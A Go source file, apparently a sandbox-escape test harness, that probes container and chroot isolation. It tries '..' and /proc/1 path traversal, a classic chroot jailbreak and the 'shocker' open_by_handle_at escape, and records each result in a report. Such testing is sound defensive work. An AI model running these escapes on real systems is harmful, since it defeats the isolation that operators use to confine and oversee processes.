package attacks

import (
	"fmt"
	"os"
	"path/filepath"
	"unsafe"

	"golang.org/x/sys/unix"
)

// jail is a folder to make a root of.
const jail = "/tmp/jail"

// Escape is what must come of escape.
var Escape = Expectation{Want: map[string]string{"threads of PID 1 seen": "true"}}

// escape tries to get above the root. Its argument is a file that is on the
// host and not in here.
func escape(r *Report, args []string) {
	top, err := inode("/")
	if err != nil {
		Fatal(err)
	}
	root, err := unix.Open("/", unix.O_PATH|unix.O_CLOEXEC, 0)
	if err != nil {
		Fatal(err)
	}
	if err := os.MkdirAll(jail, 0o777); err != nil {
		Fatal(err)
	}
	for _, path := range []string{"/..", "/../../../../..", "/proc/self/root/..", "/proc/self/cwd/../../../..", "/proc/thread-self/root/..",
		fmt.Sprintf("/proc/self/fd/%d/..", root), "/dev/fd/../../..", "/sys/..", "/tmp/../.."} {
		got, err := inode(path)
		r.Found("above by "+path, err == nil && got != top)
	}
	for _, path := range []string{"/proc/1/root", "/proc/1/cwd", "/proc/1/task/1/root", "/proc/1/task/1/cwd", "/proc/1/fd/0", "/proc/1/exe"} {
		r.Try("through "+path, Open(path, unix.O_PATH))
		r.Try("through "+path+args[0], Open(path+args[0], unix.O_PATH))
	}
	tasks, _ := filepath.Glob("/proc/1/task/*")
	r.Fact("threads of PID 1 seen", len(tasks) > 0)
	for _, task := range tasks {
		if err := Open(task+"/root", unix.O_PATH); err == nil {
			r.Try("through another thread's root", nil)
		}
	}
	r.Try("see "+args[0], Open(args[0], unix.O_PATH))
	up, err := unix.Openat2(root, "../../..", &unix.OpenHow{Flags: unix.O_PATH | unix.O_CLOEXEC})
	if err == nil {
		var st unix.Stat_t
		err = unix.Fstat(up, &st)
		r.Found("above by a descriptor", err == nil && id(&st) != top)
	}
	r.Try("handle of the root", shocker(root))
	r.Try("chroot out of a chroot", jailbreak(top))
}

// A fileID names one file of one file system.
type fileID struct{ dev, ino uint64 }

func id(st *unix.Stat_t) fileID { return fileID{st.Dev, st.Ino} }

func inode(path string) (fileID, error) {
	var st unix.Stat_t
	err := unix.Stat(path, &st)
	return id(&st), err
}

// jailbreak leaves a chroot as ever: it keeps the old root as working directory,
// moves its root below that, and goes up.
func jailbreak(top fileID) error {
	if err := unix.Chdir("/"); err != nil {
		return err
	}
	if err := unix.Chroot(jail); err != nil {
		return err
	}
	for range 64 {
		if err := unix.Chdir(".."); err != nil {
			return err
		}
	}
	got, err := inode(".")
	if err != nil {
		return err
	}
	if got == top {
		return unix.ENOENT // there is nothing above
	}
	return nil
}

// shocker opens the root of a file system by its handle (CVE-2014-3519's way out
// of early containers).
func shocker(root int) error {
	handle, _, err := unix.NameToHandleAt(root, "", unix.AT_EMPTY_PATH)
	if err != nil { // overlayfs has none; ext4's root is inode 2
		handle = unix.NewFileHandle(1, []byte{2, 0, 0, 0, 0, 0, 0, 0})
	}
	app, err := unix.Open("/app", unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		app = root
	}
	size := handle.Size()
	buf := make([]byte, 8+size)
	*(*uint32)(unsafe.Pointer(&buf[0])) = uint32(size)
	*(*int32)(unsafe.Pointer(&buf[4])) = handle.Type()
	copy(buf[8:], handle.Bytes())
	fd, _, errno := unix.Syscall(unix.SYS_OPEN_BY_HANDLE_AT, uintptr(app), Pointer(&buf[0]), unix.O_RDONLY)
	if errno != 0 {
		return errno
	}
	return unix.Close(int(fd))
}
